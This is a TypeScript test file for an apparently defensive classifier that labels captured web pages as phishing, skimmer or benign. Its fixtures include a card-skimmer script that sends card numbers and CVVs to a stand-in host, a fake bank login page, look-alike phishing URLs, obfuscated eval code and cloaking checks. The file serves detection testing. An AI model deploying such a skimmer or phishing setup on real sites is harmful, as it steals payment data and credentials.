import { expect } from 'chai';
import { isDrawn } from '../../classifiers/look-again.ts';
import { readFileSync } from 'node:fs';
import type { Verdict } from '../../records/index.ts';
import { verdictSchema } from '../../records/index.ts';
import { parseUrl } from '../../url/parse.ts';
import type { ParsedUrl } from '../../url/types.ts';
import { createJudge } from '../../classifiers/judge.ts';
import { loadPolicy } from '../../classifiers/policy.ts';
import { behaviourOf, brands, captureOf, downloadOf, formOf, scriptOf, type PageSketch } from './capture-builder.ts';

const policy = loadPolicy(JSON.parse(readFileSync(new URL('../../config/data/policy.json', import.meta.url), 'utf8')));
const judge = createJudge({ policy, brands });
const nowMs = 1_795_000_000_000;
const verdictOf = (page: PageSketch, previous: PageSketch | null = null): Verdict =>
  judge.judge(captureOf(page), { captureKey: 'k', previous: previous === null ? null : { key: 'p', capture: captureOf(previous) }, nowMs });
const parsed = (url: string): ParsedUrl => {
  const parse = parseUrl(url);
  if (!parse.ok) throw new Error(url);
  return parse.url;
};

const login = formOf(['username', 'password']);
const bank: PageSketch = { title: 'Marlow Bank - Sign in', body: '<img class="logo" src="/x.png" alt="Marlow Bank"><h1>Sign in</h1><p>© 2026 Marlow Bank</p>', forms: [login] };
const onBank = (page: PageSketch): PageSketch => ({ ...page, url: 'https://online.marlowbank.test/', forms: [formOf(['username', 'password'], { frameUrl: 'https://online.marlowbank.test/', action: 'https://online.marlowbank.test/s' })] });
const checkout: PageSketch = { title: 'Checkout - Corner Shop', body: 'Your basket', forms: [formOf(['card-number', 'card-expiry', 'card-code'])] };

describe('the judge', () => {
  it('calls a brand\'s login on its own domain benign', () => {
    expect(verdictOf(onBank(bank))).to.include({ verdict: 'benign', why: null, threat: null });
  });

  it('calls the same page on another host malicious, and names the brand', () => {
    expect(verdictOf(bank)).to.include({ verdict: 'malicious', threat: 'phishing', brand: 'Marlow Bank', compromised: false });
  });

  it('writes a verdict that the record\'s schema takes', () => {
    expect(() => verdictSchema.parse(verdictOf(bank))).to.not.throw();
  });

  for (const [page, sketch] of [
    ['a club\'s login without a brand', { title: 'Members', body: 'Sign in', forms: [login] }],
    ['a login over HTTP on a tenant that posts elsewhere', { url: 'http://club.github.io/', title: 'Members', body: 'Sign in', forms: [formOf(['username', 'password'], { frameUrl: 'http://club.github.io/', action: 'http://forum.other.test/login' })] }],
    ['a shop that takes cards itself', checkout],
    ['an app that offers brands to sign in with', { title: 'Runlog', body: 'Sign in with Marlow Bank or Orchard', forms: [formOf(['email', 'password'], { text: 'or continue with Marlow Bank' })] }],
    ['a fan page of a brand', { title: 'Marlow Bank', body: '<img class="logo" alt="Marlow Bank" src="x"> Our history of the bank' }],
    ['a page that swallows its menu, with packed code', { body: 'Portfolio of a photographer', scripts: ['eval(unescape("%61%6c%65%72%74%28%31%29"))'], behaviour: [behaviourOf('contextmenu-blocked'), behaviourOf('key-blocked')] }],
  ] as const) {
    it(`calls ${page} benign`, () => {
      expect(verdictOf(sketch)).to.include({ verdict: 'benign' });
    });
  }

  it('marks a skimmed shop as compromised', () => {
    const script = 'document.querySelectorAll("input").forEach(e => { if (/card_number|cvv/.test(e.name)) o[e.name] = e.value; }); new Image().src = "https://px.other.test/p.gif?d=" + btoa(JSON.stringify(o))';
    expect(verdictOf({ ...checkout, scripts: [script] })).to.include({ verdict: 'malicious', threat: 'skimmer', compromised: true });
  });

  it('never calls a page malicious for its URL, its way and its look alone', () => {
    const verdict = verdictOf({
      url: 'https://a.test/out?to=https%3A%2F%2Fmarlowbank.test.secure-login-verify-account-update.top%2F', finalUrl: 'https://marlowbank.test.secure-login-verify-account-update.top/verify/account/login.php', title: 'Hello', body: 'x y z',
      hops: [{ from: 'https://a.test/', to: 'https://b.test/', by: 'http', status: 302, atMs: 1 }, { from: 'https://b.test/', to: 'https://c.test/', by: 'meta', status: null, atMs: 2 }, { from: 'https://c.test/', to: 'https://marlowbank.test.secure-login-verify-account-update.top/', by: 'script', status: null, atMs: 3 }],
      scripts: [`document.write(unescape("${'%3Cform%20a%3D'.repeat(30)}"))`],
    });
    expect(verdict.verdict).to.not.equal('malicious');
  });

  for (const [outcome, why] of [['challenged', 'challenge'], ['blocked', 'blocked'], ['server-error', 'error'], ['gone', 'gone'], ['unreachable', 'unreachable'], ['refused-by-policy', 'refused'], ['crashed', 'crashed'], ['timed-out', 'error']] as const) {
    it(`calls a visit that ended as ${outcome} undecided (${why}), never benign`, () => {
      expect(verdictOf({ nothing: true, outcome })).to.include({ verdict: 'undecided', why, threat: null });
    });
  }

  for (const [state, page, why] of [
    ['a parked name', { title: 'x', body: 'This domain is for sale' }, 'parked'],
    ['a suspended site', { title: 'Account suspended', body: 'This account has been suspended' }, 'gone'],
    ['an error with status 200', { title: '404 Not Found', body: 'Not found' }, 'error'],
    ['an empty page', {}, 'empty'],
  ] as const) {
    it(`calls ${state} undecided (${why})`, () => {
      expect(verdictOf(page)).to.include({ verdict: 'undecided', why });
    });
  }

  it('sees a deed behind a status of 404', () => {
    expect(verdictOf({ ...bank, status: 404, outcome: 'gone' })).to.include({ verdict: 'malicious' });
  });

  it('names a detector that throws, and judges by the others', () => {
    const broken = createJudge({ policy, brands, detectors: [{ name: 'broken', needs: [], signals: {}, detect: () => { throw new Error('bug'); } }] });
    expect(broken.judge(captureOf(bank), { captureKey: null, previous: null, nowMs }).failedDetectors).to.deep.equal(['broken']);
  });

  it('cannot be blinded by 10 MB of padding before, behind or around', () => {
    const padding = `<!-- ${'x '.repeat(1_500_000)} --><div hidden>${'lorem ipsum '.repeat(300_000)}</div><script>${'a=1;'.repeat(250_000)}</script>`;
    const startedAt = performance.now();
    for (const body of [`${padding}${bank.body ?? ''}`, `${bank.body ?? ''}${padding}`]) {
      expect(verdictOf({ ...bank, text: 'Marlow Bank Sign in', body, scripts: [scriptOf('var a = 1;'.repeat(26_000)), ...(bank.scripts ?? [])] })).to.include({ verdict: 'malicious' });
    }
    expect(performance.now() - startedAt).to.be.lessThan(8000);
  });

  for (const [what, text] of [
    ['spaces', ' '.repeat(250_000)], ['opened comments', '<!--'.repeat(60_000)], ['opened scripts', '<script '.repeat(30_000)], ['one long word', 'a'.repeat(250_000)], ['escapes', '%u9090'.repeat(40_000)],
    ['half addresses', 'https://'.repeat(30_000)], ['numbers', '1,22,333,'.repeat(28_000)], ['alarms', 'your computer '.repeat(18_000)], ['base64', 'QUJD'.repeat(60_000)], ['open quotes', 'fetch("'.repeat(36_000)], ['powershell', 'powershell '.repeat(23_000)],
    ['names with a space', 'bank of '.repeat(30_000)], ['phone numbers', 'call +1 (888) '.repeat(18_000)], ['evals', 'eval(x);unescape('.repeat(15_000)],
  ] as const) {
    it(`judges a page of ${what} in bounded time`, () => {
      const startedAt = performance.now();
      verdictOf({ title: text.slice(0, 5000), body: text, text, forms: [login], scripts: [text, scriptOf(text, 'https://x.test/a.js')], behaviour: [behaviourOf('clipboard-write', text.slice(0, 4096))], dialogs: [text.slice(0, 5000)] });
      expect(performance.now() - startedAt).to.be.lessThan(5000);
    });
  }
});

describe('rating a URL alone', () => {
  it('never calls it malicious or benign', () => {
    for (const url of ['https://marlowbank.test/', 'https://harbour.test/', 'http://mar1owbank-secure-login.duckdns.org/verify/account/login.php']) {
      expect(judge.rate(parsed(url), nowMs).verdict).to.be.oneOf(['suspicious', 'undecided']);
    }
  });

  it('rates a look-alike above an ordinary URL, and the brand\'s own below', () => {
    const [own, plain, bad] = ['https://www.marlowbank.test/login', 'https://harbour.test/storm', 'https://marlowbank-secure-login.test/verify'].map((url) => judge.rate(parsed(url), nowMs).score) as [number, number, number];
    expect(own).to.be.at.most(plain);
    expect(bad).to.be.greaterThan(plain * 3);
  });
});

describe('triage of a probe', () => {
  const article = `<h1>Notes on gardens</h1><p>${'Roses want sun and some rain in spring. '.repeat(20)}</p>`;
  const triage = (page: PageSketch): string => judge.triage(captureOf({ lane: 'probe', ...page }));

  for (const [what, page] of [
    ['plain HTML', { body: '<p>A page of text</p>' }], ['plain text', { contentType: 'text/plain', body: 'words' }], ['a refused address', { nothing: true, outcome: 'refused-by-policy' }], ['a dead host', { nothing: true, outcome: 'unreachable' }],
    ['an ordinary page although it has scripts', { body: article, scripts: ['var shown = 1; function show(x) { return x + shown; }'] }],
  ] as const) it(`settles ${what}`, () => { expect(triage(page)).to.equal('settle'); });

  for (const [what, page] of [
    ['a script', { body: 'x', scripts: ['1'] }], ['an inline handler', { body: '<p onload=x()>x</p>' }], ['a form', { body: 'x', forms: [login] }], ['a frame', { body: 'x <iframe src="/a"></iframe>' }], ['a refresh', { head: '<meta http-equiv="refresh" content="0;url=/a">', body: 'x' }],
    ['an ordinary page whose script hides its code', { body: article, scripts: ['eval(atob("YWxlcnQoMSk="))'] }], ['an ordinary page whose script leads away', { body: article, scripts: ['location.href = "/next"'] }], ['an ordinary page with a hidden password field', { body: article, forms: [login], scripts: ['1'] }], ['an ordinary page that tests its visitor', { body: article, scripts: ['if (navigator.webdriver || document.referrer === "") show()'] }],
    ['a link to a program', { body: 'x', links: ['https://a.test/x.exe'] }], ['a download', { downloads: [downloadOf('a.zip')] }], ['a suspicious URL', { url: 'https://marlowbank-login.test/', body: 'x' }], ['an empty page', {}], ['a 403', { outcome: 'blocked', status: 403, body: 'x' }], ['a challenge', { outcome: 'challenged', body: 'x' }],
  ] as const) it(`sends ${what} to a browser`, () => { expect(triage(page)).to.equal('render'); });
});

describe('the second look', () => {
  const next = (page: PageSketch, look = 0): string => {
    const capture = captureOf(page);
    return judge.nextLook(capture, judge.judge(capture, { captureKey: null, previous: null, nowMs }), look);
  };
  const gate = ['if (/Android/.test(navigator.userAgent) && document.referrer) document.body.innerHTML = x'];
  const suspicious = { url: 'https://marlowbank-secure.test/' };

  for (const [what, page] of [
    ['an ordinary page', { body: 'An ordinary page' }], ['a whole article that tests its browser', { body: Array.from({ length: 150 }, () => 'word').join(' '), scripts: gate }], ['a malicious page', bank], ['a login', { ...suspicious, body: 'x', forms: [login] }], ['a 404 at an ordinary URL', { outcome: 'gone', status: 404, title: 'Not found', body: 'x' }],
  ] as const) it(`is not made at ${what}`, () => { expect(next(page)).to.equal('done'); });

  for (const [what, page] of [
    ['a small page that tests its visitor', { body: 'Loading', scripts: gate }], ['an empty page', {}], ['a challenge', { outcome: 'challenged', body: 'x' }], ['a 404 at a suspicious URL', { ...suspicious, outcome: 'gone', status: 404, body: 'x' }],
    ['a small page at a suspicious URL', { ...suspicious, body: 'Welcome to our garden' }], ['a way from a suspicious URL to the brand itself', { ...suspicious, finalUrl: 'https://marlowbank.test/', body: Array.from({ length: 150 }, () => 'word').join(' ') }],
  ] as const) {
    it(`is made at ${what}`, () => { expect(next(page)).to.equal('look-again'); });
    it(`is followed by a third one ${'url' in page ? '' : 'not '}at ${what}`, () => {
      expect(next(page, 1)).to.equal('url' in page ? 'look-again' : 'done');
      expect(next(page, 2)).to.equal('done');
    });
  }

  it('is made at a share of all other pages, which nobody can foresee by the URL', () => {
    const drawn = (urlKey: string): number => Array.from({ length: 2000 }, (_, index) => isDrawn(urlKey, nowMs + index, 0.05)).filter(Boolean).length;
    expect(drawn('a')).to.be.within(60, 140);
    expect(drawn('b')).to.be.within(60, 140);
    expect(Array.from({ length: 100 }, (_, index) => isDrawn('a', index, 0)).some(Boolean)).to.equal(false);
  });

  it('compares what two visitors saw', () => {
    const verdict = verdictOf({ ...bank, profile: 'android' }, { body: 'Welcome to our garden', profile: 'windows' });
    expect(verdict.comparedWith).to.equal('p');
    expect(verdict.signals.map(({ name }) => name)).to.include('cloaking/hides-secret');
  });
});
